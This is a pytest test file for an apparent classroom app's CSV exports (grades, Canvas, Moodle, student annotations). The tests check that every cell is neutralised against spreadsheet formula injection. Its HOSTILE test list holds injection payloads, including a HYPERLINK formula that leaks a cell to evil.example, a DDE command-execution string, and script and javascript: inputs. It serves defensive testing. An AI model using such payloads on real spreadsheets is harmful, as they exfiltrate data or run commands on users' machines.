"""Export writers: every CSV read back with the csv module, and nothing in a cell can run."""

from __future__ import annotations

import csv
import inspect
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest

from app.domain import exports
from app.domain.exports import (
    ANNOTATION_FIELD_COLUMNS,
    BOM,
    CANVAS_POINTS_POSSIBLE,
    FORMULA_STARTS,
    AnnotatedAssignment,
    AnnotationExportRow,
    CanvasStudent,
    GradeRow,
    MoodleStudent,
    Table,
    annotation_collection,
    annotation_export_rows,
    annotations_table,
    canvas_table,
    csv_lines,
    grades_table,
    iso_utc,
    moodle_table,
    neutralise,
    pseudonymiser,
    rubric_feedback,
    web_address,
    web_annotation,
)
from app.domain.lessons import FIELD_SETS, Block, Category, KeyItem, Lesson, Prompt
from app.domain.work import AnnotationRow, OmissionMark, RubricMark, StudentWork

EMOJI = "\U0001f600"
# Names and notes a student might type, or an attacker might.
HOSTILE = [
    "Doe, Jane",
    'Dwayne "The Rock" Johnson',
    "two\nlines",
    "carriage\r\nreturn",
    f"Zoë {EMOJI} 李",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\uff1d1+2",
    "a;=1+2",
    "<script>alert(1)</script>",
]
T0 = datetime(2022, 11, 15, 10, 0, 0)


def read_back(chunks, quoting=csv.QUOTE_MINIMAL) -> list[list]:
    """The file as a spreadsheet sees it: one BOM up front, then rows the csv module parses."""
    text = "".join(chunks)
    assert text.startswith(BOM)
    assert text.count(BOM) == 1
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline=""), quoting=quoting))


def assert_inert(text: str) -> None:
    """No text cell can start a formula (numbers, left bare, are read back as floats)."""
    for row in read_back([text], quoting=csv.QUOTE_NONNUMERIC):
        for cell in row:
            assert not (isinstance(cell, str) and cell and cell[0] in FORMULA_STARTS), row


# ----------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("\uff1d1+2", "'\uff1d1+2"),  # full-width =
        ("\uff0bx", "'\uff0bx"),  # full-width +
        ("\uff0dx", "'\uff0dx"),  # full-width -
        ("\uff20x", "'\uff20x"),  # full-width @
        ("-2", "'-2"),  # text that looks like a number is still text
        ("normal", "normal"),
        ("x=1", "x=1"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (True, "True"),
    ],
)
def test_neutralise_defuses_text_that_could_start_a_formula(value, written):
    assert neutralise(value) == written


@pytest.mark.parametrize("number", [3.5, 0, -2, -0.5, 10**12])
def test_neutralise_leaves_numbers_numeric(number):
    assert neutralise(number) is number


def test_every_cell_of_every_export_goes_through_the_one_guard(monkeypatch):
    seen: list = []

    def spy(value):
        seen.append(value)
        return neutralise(value)

    monkeypatch.setattr(exports.tables, "neutralise", spy)  # where csv_lines looks it up
    table = canvas_table([("Quiz", 1, 10.0)], [CanvasStudent("=x", "", "", "", "", {1: 3})])
    rows = read_back(csv_lines(table))
    assert len(seen) == sum(len(r) for r in rows) == 3 * 6
    assert rows[2][0] == "'=x"


# ----------------------------------------------------------------------------- csv_lines


def test_csv_lines_streams_chunks_as_rows_arrive():
    consumed = []

    def rows():
        for i in range(1000):
            consumed.append(i)
            yield [f"student {i}", i]

    lines = csv_lines(Table(["Student", "N"], rows()), flush_at=0)
    assert inspect.isgenerator(lines)
    assert consumed == []  # nothing is built before the first chunk is asked for
    assert next(lines) == f'{BOM}"Student","N"\r\n'
    assert next(lines) == '"student 0",0\r\n'
    assert len(consumed) <= 2
    assert len(list(lines)) == 999


def test_csv_lines_sends_whole_rows_in_bounded_chunks():
    table = Table(["Note"], ([f"note {i} " + "x" * 50] for i in range(5000)))
    chunks = list(csv_lines(table, flush_at=4096))
    assert len(chunks) > 50
    assert all(c.endswith("\r\n") for c in chunks)
    assert max(len(c) for c in chunks) < 4096 + 200
    assert len(read_back(chunks)) == 5001


def test_the_bom_comes_once_and_only_when_asked():
    table = Table(["Student"], [["Zoë"]])
    assert "".join(csv_lines(table)) == f'{BOM}"Student"\r\n"Zoë"\r\n'
    assert "".join(csv_lines(Table(["Student"], [["Zoë"]]), bom=False)) == '"Student"\r\n"Zoë"\r\n'


def test_text_cells_are_quoted_so_a_semicolon_cannot_start_a_new_cell():
    text = "".join(csv_lines(Table(["Note", "Score"], [["a;=1+2", 7]])))
    assert text.endswith('"a;=1+2",7\r\n')


def test_hostile_text_comes_out_as_typed_and_inert():
    text = "".join(csv_lines(Table(["Name", "Score"], ([name, -2] for name in HOSTILE))))
    rows = read_back([text])
    assert rows[0] == ["Name", "Score"]
    assert [r[0] for r in rows[1:]] == [neutralise(name) for name in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["-2"] * len(HOSTILE)
    assert_inert(text)
    typed = read_back([text], quoting=csv.QUOTE_NONNUMERIC)
    assert {r[1] for r in typed[1:]} == {-2.0}  # the number stayed a number


# ----------------------------------------------------------------------------- grades

CATEGORIES = [
    Category("source", "Source", "#000"),
    Category("loaded", "Loaded wording", "#000"),
    Category("omission", "Left out", "#000"),
]
GRADES_HEADERS = [
    "Student",
    "Username",
    "SIS User ID",
    "SIS Login ID",
    "Section",
    "Assignment",
    "Status",
    "Submitted",
    "Late",
    "Not submitted",
    "Source score",
    "Loaded wording score",
    "Left out score",
    "Auto score",
    "Final score",
    "Points possible",
]


def grade(name: str = "Doe, Jane", **changes) -> GradeRow:
    values = dict(
        name=name,
        username="jdoe",
        sis_user_id="S-1",
        sis_login_id="jdoe@school.example",
        section="Period 2",
        status="late",
        submitted_at=T0,
        late=True,
        auto_score=7.5,
        final_score=None,
        possible=12.0,
        category_scores={"source": 3.0, "loaded": 2.5, "omission": 2.0},
    )
    values.update(changes)
    return GradeRow(**values)


def test_grades_csv_has_one_row_per_student_in_a_stable_column_order():
    rows = read_back(
        csv_lines(
            grades_table(
                "Kiev's anger",
                [
                    grade(),
                    grade(
                        "Roe, Rich",
                        username="rroe",
                        status="submitted",
                        late=False,
                        final_score=9.0,
                        submitted_at=datetime(
                            2022, 11, 15, 11, 0, tzinfo=timezone(timedelta(hours=2))
                        ),
                    ),
                    grade(
                        "Poe, Pat",
                        username="ppoe",
                        status="not started",
                        late=False,
                        submitted_at=None,
                        auto_score=0.0,
                        category_scores={},
                    ),
                ],
                CATEGORIES,
            )
        )
    )
    assert rows[0] == GRADES_HEADERS
    assert rows[1] == [
        "Doe, Jane",
        "jdoe",
        "S-1",
        "jdoe@school.example",
        "Period 2",
        "Kiev's anger",
        "late",
        "15 Nov 2022, 10:00 UTC",
        "yes",
        "no",
        "3",
        "2.5",
        "2",
        "7.5",
        "7.5",
        "12",
    ]
    assert rows[2][7:9] == ["15 Nov 2022, 09:00 UTC", "no"]
    assert rows[2][-3:] == ["7.5", "9", "12"]  # the teacher's override is the final score
    assert rows[3][7:] == ["", "no", "no", "0", "0", "0", "0", "0", "12"]


def test_grades_csv_score_columns_stay_numeric():
    chunks = csv_lines(grades_table("A", [grade(auto_score=0.1 + 0.2)], CATEGORIES))
    row = read_back(chunks, quoting=csv.QUOTE_NONNUMERIC)[1]
    assert row[10:] == [3.0, 2.5, 2.0, 0.3, 0.3, 12.0]
    assert all(isinstance(cell, str) for cell in row[:10])


def test_grades_csv_marks_missing_work_and_leaves_no_grade_blank():
    rows = read_back(
        csv_lines(
            grades_table(
                "A",
                [
                    grade(
                        "Mia Missing",
                        status="missing",
                        submitted_at=None,
                        late=False,
                        not_submitted=True,
                    ),
                    grade(
                        "Nat Never",
                        status="missing",
                        submitted_at=None,
                        late=False,
                        not_submitted=True,
                        auto_score=0.0,
                        has_grade=False,
                    ),
                    grade(
                        "Gus Graded",
                        status="missing",
                        submitted_at=None,
                        late=False,
                        not_submitted=True,
                        auto_score=0.0,
                        final_score=4.0,
                        has_grade=True,
                    ),
                ],
                CATEGORIES,
            )
        )
    )
    head = rows[0]
    got = {r[0]: (r[head.index("Not submitted")], r[head.index("Final score")]) for r in rows[1:]}
    assert got == {
        "Mia Missing": ("yes", "7.5"),
        "Nat Never": ("yes", ""),
        "Gus Graded": ("yes", "4"),
    }


def test_grades_csv_with_hostile_names_is_inert():
    table = grades_table("=Quiz", [grade(n, username=n, section=n) for n in HOSTILE], CATEGORIES)
    text = "".join(csv_lines(table))
    rows = read_back([text])
    assert [r[0] for r in rows[1:]] == [neutralise(n) for n in HOSTILE]
    assert rows[1][5] == "'=Quiz"
    assert_inert(text)


PROMPT_NAMES = {"sources": "Source", "loaded": "Loaded wording", "omissions": "Left out"}


def test_grades_csv_gives_each_prompts_rubric_level_and_comment():
    marked = grade(
        rubric={
            "sources": RubricMark("sources", "proficient", "=Named all three"),
            "omissions": RubricMark("omissions", "basic", ""),
        }
    )
    table = grades_table("Quiz", [marked, grade("Poe, Pat")], CATEGORIES, prompts=PROMPT_NAMES)
    text = "".join(csv_lines(table))
    rows = read_back([text])
    assert rows[0] == [
        *GRADES_HEADERS,
        "Source rubric",
        "Source comment",
        "Loaded wording rubric",
        "Loaded wording comment",
        "Left out rubric",
        "Left out comment",
    ]
    assert rows[1][len(GRADES_HEADERS) :] == [
        "Proficient",
        "'=Named all three",
        "",
        "",
        "Basic",
        "",
    ]
    assert rows[2][len(GRADES_HEADERS) :] == [""] * 6
    assert_inert(text)


def test_grades_csv_writes_when_each_student_submitted_in_the_school_zone_with_its_name():
    rows = read_back(
        csv_lines(
            grades_table(
                "Quiz",
                [grade(submitted_at=datetime(2026, 12, 7, 19, 5)), grade(submitted_at=None)],
                CATEGORIES,
                zone="America/New_York",
            )
        )
    )
    assert rows[1][GRADES_HEADERS.index("Submitted")] == "7 Dec 2026, 14:05 EST"
    assert rows[2][GRADES_HEADERS.index("Submitted")] == ""


def test_rubric_feedback_names_each_prompt_with_its_level_in_the_lessons_order():
    rubric = {
        "omissions": RubricMark("omissions", "emergent", "Say why it matters"),
        "sources": RubricMark("sources", "proficient", "Well checked"),
        "loaded": RubricMark("loaded", "", "  "),  # nothing given: left out
    }
    assert rubric_feedback(PROMPT_NAMES, rubric) == (
        "Source (Proficient): Well checked | Left out (Emergent): Say why it matters"
    )
    assert rubric_feedback(PROMPT_NAMES, {"loaded": RubricMark("loaded", "basic")}) == (
        "Loaded wording (Basic)"
    )
    assert rubric_feedback(PROMPT_NAMES, {}) == ""


# ----------------------------------------------------------------------------- Canvas


def test_canvas_csv_has_canvas_headers_and_points_possible_row():
    table = canvas_table(
        [("Kiev's anger", 41, 12.0), ("Two sources, one story", 42, 10.5)],
        [
            CanvasStudent("Doe, Jane", 5678, "S-1", "jdoe", "Period 2", {41: 7.5, 42: None}),
            CanvasStudent("Roe, Rich", "", "", "rroe", "", {42: 10.5}),
        ],
    )
    text = "".join(csv_lines(table))
    lines = text[len(BOM) :].split("\r\n")
    assert lines[1] == f'"{CANVAS_POINTS_POSSIBLE}","","","","",12,10.5'
    rows = read_back([text])
    assert rows[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "Kiev's anger (41)",
        "Two sources, one story (42)",
    ]
    assert rows[1] == ["    Points Possible", "", "", "", "", "12", "10.5"]
    assert rows[2] == ["Doe, Jane", "5678", "S-1", "jdoe", "Period 2", "7.5", ""]
    assert rows[3] == ["Roe, Rich", "", "", "rroe", "", "", "10.5"]  # blank: no score
    assert len(rows) == 4


def test_students_with_nothing_but_a_name_for_canvas_to_match_are_named_in_order():
    students = [
        CanvasStudent("Has a user id", "", "S-1", "", "", {}),
        CanvasStudent("Nothing, Ned", "", "", "", "P2", {}),
        CanvasStudent("Has a login", "", "", "hlogin", "", {}),
        CanvasStudent("Has a Canvas id", 5678, "", "", "", {}),
        CanvasStudent("<b>Nobody</b>", "", "", "", "", {}),
    ]
    assert exports.unmatched_in_canvas(students) == ["Nothing, Ned", "<b>Nobody</b>"]
    assert exports.unmatched_in_canvas(students[:1]) == []


def test_canvas_csv_with_hostile_names_and_titles_is_inert():
    table = canvas_table(
        [("=Quiz", 3, 5.0)], [CanvasStudent(n, "", n, n, n, {3: -1.0}) for n in HOSTILE]
    )
    text = "".join(csv_lines(table))
    rows = read_back([text])
    assert rows[0][-1] == "'=Quiz (3)"  # Canvas still finds the assignment by "(3)"
    assert [r[0] for r in rows[2:]] == [neutralise(n) for n in HOSTILE]
    assert {r[-1] for r in rows[2:]} == {"-1"}
    assert_inert(text)


# ----------------------------------------------------------------------------- Moodle


def test_moodle_csv_identifies_students_by_username_with_optional_feedback():
    rows = read_back(
        csv_lines(
            moodle_table(
                "Kiev's anger",
                [
                    MoodleStudent("jdoe", 7.5),
                    MoodleStudent("rroe", None, email="r@school.example"),
                ],
            )
        )
    )
    assert rows == [["Username", "Kiev's anger"], ["jdoe", "7.5"], ["rroe", ""]]

    rows = read_back(
        csv_lines(
            moodle_table(
                "Quiz",
                [
                    MoodleStudent("jdoe", 7.5, feedback="=Well done,\n Jane"),
                    MoodleStudent("rroe", 3, feedback=""),
                ],
            )
        )
    )
    assert rows == [
        ["Username", "Quiz", "Feedback: Quiz"],
        ["jdoe", "7.5", "'=Well done,\n Jane"],
        ["rroe", "3", ""],
    ]


def test_moodle_csv_uses_email_when_every_student_has_one():
    students = [
        MoodleStudent("jdoe", 1, email="j@school.example"),
        MoodleStudent("rroe", 2, email="r@school.example"),
    ]
    rows = read_back(csv_lines(moodle_table("Quiz", students)))
    assert rows == [["Email address", "Quiz"], ["j@school.example", "1"], ["r@school.example", "2"]]
    assert read_back(csv_lines(moodle_table("Quiz", students, by="username")))[1][0] == "jdoe"
    with pytest.raises(ValueError, match="identify students"):
        moodle_table("Quiz", students, by="id number")


# ----------------------------------------------------------------------------- annotations

TEXT_BLOCKS = [
    Block("headline", "Kiev expresses anger over a proposal"),
    Block("paragraph", f"Ukraine has vented its anger {EMOJI} on a top US general."),
]


def tiny_lesson() -> Lesson:
    start = 0
    for block in TEXT_BLOCKS:
        block.start = start
        start += len(block.text) + 2
    return Lesson(
        id="tiny",
        title="Tiny",
        outlet="",
        byline="",
        published="",
        url="",
        grade_band="",
        minutes=5,
        teacher_note="",
        blocks=TEXT_BLOCKS,
        categories=CATEGORIES,
        prompts=[
            Prompt("sources", "source", "Who says so?"),
            Prompt("loaded", "loaded", "Which words are loaded?"),
            Prompt("omissions", "omission", "What is missing?"),
        ],
        key=[
            KeyItem("loaded-vented", "loaded", "Emotive.", 1.0, quote="vented its anger"),
            KeyItem("om-remarks", "omission", "Context.", 1.0, statement="What Milley said"),
        ],
        decoys=[],
        scoring={},
    )


ANNOTATION_HEADERS = [
    "Student",
    "Username",
    "Prompt",
    "Question",
    "Category",
    "Quote",
    "Start",
    "End",
    "Note",
    "Source named?",
    "Who they are",
    "Independent?",
    "Where I checked",
    "Neutral rewrite",
    "What is missing",
    "Why it matters",
    "Match to key",
    "Key item",
    "Mark",
    "Created",
    "Modified",
]


def test_annotation_field_columns_are_the_fields_prompts_ask_for():
    asked = [f["name"] for fields in FIELD_SETS.values() for f in fields]
    assert [name for name, _ in ANNOTATION_FIELD_COLUMNS] == asked


def works_on(text: str) -> list[StudentWork]:
    vented = text.index("vented its anger")
    general = text.index("a top US general")

    def row(n, category, prompt, start, end, note, **fields) -> AnnotationRow:
        return AnnotationRow(
            id=f"00000000-0000-4000-8000-{n:012d}",
            student_id=n // 10,
            category=category,
            prompt_id=prompt,
            start=start,
            end=end,
            exact=text[start:end] if start is not None else "",
            note=note,
            fields=fields,
            created_at=T0,
            updated_at=T0 + timedelta(minutes=n),
        )

    jane = StudentWork(
        1,
        "Doe, Jane",
        "jdoe",
        annotations=[
            row(
                11,
                "loaded",
                "loaded",
                vented,
                vented + 21,
                "=1+2 sounds angry",
                rewrite="criticised",
            ),
            row(
                12,
                "omission",
                "omissions",
                general,
                general,
                "",
                missing="What he said",
                why="-context",
            ),
        ],
    )
    jane.omission_marks["00000000-0000-4000-8000-000000000012"] = OmissionMark(
        "00000000-0000-4000-8000-000000000012", "om-remarks", "partial"
    )
    rich = StudentWork(
        2,
        "@Roe, Rich\n",
        "rroe",
        annotations=[
            row(21, "omission", "omissions", None, None, "No date", missing="+date"),
            row(
                22,
                "source",
                None,
                general,
                general + 16,
                "",
                named="unnamed",
                checked_url="https://example.org/a b",
            ),
        ],
    )
    return [jane, rich]


def test_annotations_csv_has_one_row_per_annotation_with_match_and_mark():
    lesson = tiny_lesson()
    text = lesson.text
    rows = annotation_export_rows(
        lesson, works_on(text), {"00000000-0000-4000-8000-000000000011": "loaded-vented"}
    )
    written = "".join(csv_lines(annotations_table(rows)))
    out = read_back([written])
    assert out[0] == ANNOTATION_HEADERS
    vented = text.index("vented")
    assert out[1] == [
        "Doe, Jane",
        "jdoe",
        "Loaded wording",
        "Which words are loaded?",
        "Loaded wording",
        f"vented its anger {EMOJI} on",
        str(vented),
        str(vented + 21),
        "'=1+2 sounds angry",
        "",
        "",
        "",
        "",
        "criticised",
        "",
        "",
        "loaded-vented",
        "vented its anger",
        "",
        "15 Nov 2022, 10:00 UTC",
        "15 Nov 2022, 10:11 UTC",
    ]
    general = str(text.index("a top US general"))
    assert out[2][2:9] == ["Left out", "What is missing?", "Left out", "", general, general, ""]
    assert out[2][14:19] == [
        "What he said",
        "'-context",
        "om-remarks",
        "What Milley said",
        "partial",
    ]
    assert out[3][:9] == [
        "'@Roe, Rich\n",
        "rroe",
        "Left out",
        "",  # the question was written on the first row that answers it
        "Left out",
        "",
        "",
        "",
        "No date",
    ]
    assert out[3][14] == "'+date"
    assert out[4][2:6] == ["", "", "Source", "a top US general"]
    assert out[4][9] == "unnamed"
    assert out[4][12] == "https://example.org/a b"
    assert out[4][16:19] == ["", "", ""]
    assert_inert(written)


def test_annotations_csv_asks_each_question_once_and_names_the_key_item_in_words():
    lesson = tiny_lesson()
    works = works_on(lesson.text)
    works.append(StudentWork(3, "Zed", "zed", annotations=[works[0].annotations[0]]))
    rows = annotation_export_rows(
        lesson, works, {"00000000-0000-4000-8000-000000000011": "loaded-vented"}
    )
    out = read_back(csv_lines(annotations_table(rows, zone="Europe/Berlin")))
    header = out[0]
    prompt, question = header.index("Prompt"), header.index("Question")
    key_id, key_item = header.index("Match to key"), header.index("Key item")
    assert key_item == key_id + 1
    assert [(r[prompt], r[question]) for r in out[1:]] == [
        ("Loaded wording", "Which words are loaded?"),
        ("Left out", "What is missing?"),
        ("Left out", ""),
        ("", ""),
        ("Loaded wording", ""),
    ]
    assert [(r[key_id], r[key_item]) for r in out[1:]] == [
        ("loaded-vented", "vented its anger"),
        ("om-remarks", "What Milley said"),
        ("", ""),
        ("", ""),
        ("loaded-vented", "vented its anger"),
    ]
    assert out[1][header.index("Created")] == "15 Nov 2022, 11:00 CET"


def test_annotation_rows_carry_the_w3c_context_in_code_points():
    lesson = tiny_lesson()
    text = lesson.text
    rows = annotation_export_rows(lesson, works_on(text))
    span, point, nowhere = rows[0], rows[1], rows[2]
    assert span.exact == text[span.start : span.end] == f"vented its anger {EMOJI} on"
    assert span.prefix == text[max(0, span.start - 32) : span.start]
    assert span.suffix == text[span.end : span.end + 32]
    assert span.prefix == "er over a proposal\n\nUkraine has "  # 32 code points, blocks and all
    assert span.suffix == " a top US general."  # the text ends sooner
    assert point.start == point.end
    assert point.exact == ""
    assert point.prefix.endswith(f"{EMOJI} on ")
    assert point.suffix.startswith("a top")
    assert (nowhere.start, nowhere.end, nowhere.prefix, nowhere.suffix) == (None, None, "", "")
    assert point.key_item_id == "om-remarks"
    assert point.mark == "partial"


def test_annotations_csv_with_hostile_names_and_notes_is_inert():
    rows = [
        AnnotationExportRow(
            id=f"00000000-0000-4000-8000-{i:012d}",
            student_id=i,
            student_name=text,
            username=text,
            category="loaded",
            category_label=text,
            start=0,
            end=4,
            created=T0,
            modified=T0,
            exact=text,
            note=text,
            prompt=text,
            fields={name: text for name, _ in ANNOTATION_FIELD_COLUMNS},
        )
        for i, text in enumerate(HOSTILE)
    ]
    text = "".join(csv_lines(annotations_table(rows)))
    out = read_back([text])
    for row, typed in zip(out[1:], HOSTILE, strict=True):
        assert row[0] == row[8] == row[9] == neutralise(typed)
    assert_inert(text)


def test_a_thousand_students_stream_without_building_the_file():
    row = AnnotationExportRow(
        id="00000000-0000-4000-8000-000000000001",
        student_id=1,
        student_name="Doe, Jane",
        username="jdoe",
        category="loaded",
        category_label="Loaded wording",
        start=10,
        end=20,
        created=T0,
        modified=T0,
        exact="vented its",
        note="a note " * 20,
    )
    lines = csv_lines(annotations_table(row for _ in range(40_000)))
    first = next(lines)
    assert first.startswith(BOM)
    assert len(first) < 40_000
    assert sum(c.count("\r\n") for c in lines) + first.count("\r\n") == 40_001


# ----------------------------------------------------------------------------- helpers


def test_times_are_written_in_utc_with_a_z():
    assert iso_utc(T0) == "2022-11-15T10:00:00Z"
    assert iso_utc(T0.replace(tzinfo=UTC, microsecond=5)) == "2022-11-15T10:00:00Z"
    assert iso_utc(datetime(2022, 11, 15, 12, tzinfo=timezone(timedelta(hours=2)))) == (
        "2022-11-15T10:00:00Z"
    )
    assert iso_utc(None) == ""


@pytest.mark.parametrize(
    ("typed", "address"),
    [
        ("https://example.org/a b", "https://example.org/a%20b"),
        (
            "https://bücher.example/über?q=ä ö#top",
            "https://xn--bcher-kva.example/%C3%BCber?q=%C3%A4%20%C3%B6#top",
        ),
        ("HTTP://Example.org:8080/x", "http://example.org:8080/x"),
        ("https://example.org/already%20escaped", "https://example.org/already%20escaped"),
        ("javascript:alert(1)", None),
        ("not a web address", None),
        ("https://user:pw@example.org/", None),
        ("https://example.org:99999/", None),
        ("https://exa mple.org/", None),
        ("ftp://example.org/", None),
    ],
)
def test_where_i_checked_becomes_a_clean_web_address_or_nothing(typed, address):
    assert web_address(typed) == address


def test_pseudonyms_are_version_8_uuids_and_stable():
    pseudonym = pseudonymiser(b"secret", scope="assignment-1")
    iri = pseudonym(42)
    assert iri == pseudonym(42) != pseudonym(43)
    assert iri.startswith("urn:uuid:")
    assert iri[len("urn:uuid:") + 14] == "8"


def test_the_json_ld_export_refuses_what_would_make_it_invalid():
    assignment = AnnotatedAssignment(1, "A", "tiny", "abc")
    row = AnnotationExportRow(
        id="00000000-0000-4000-8000-000000000001",
        student_id=1,
        student_name="Jane",
        username="jdoe",
        category="loaded",
        category_label="Loaded wording",
        start=None,
        end=None,
        created=T0,
        modified=T0,
    )
    pseudonym = pseudonymiser("k")
    with pytest.raises(ValueError, match="base_url"):
        annotation_collection("school.example", assignment, [row], pseudonym=pseudonym)
    with pytest.raises(ValueError, match="page_size"):
        annotation_collection(
            "https://s.example", assignment, [row], pseudonym=pseudonym, page_size=0
        )
    with pytest.raises(ValueError, match="absolute IRI"):
        web_annotation(row, source="https://s.example/l", pseudonym=lambda _: "Jane Doe")
    with pytest.raises(ValueError, match="UUID"):
        web_annotation(
            AnnotationExportRow(**{**row.__dict__, "id": "not-a-uuid"}),
            source="https://s.example/l",
            pseudonym=pseudonym,
        )
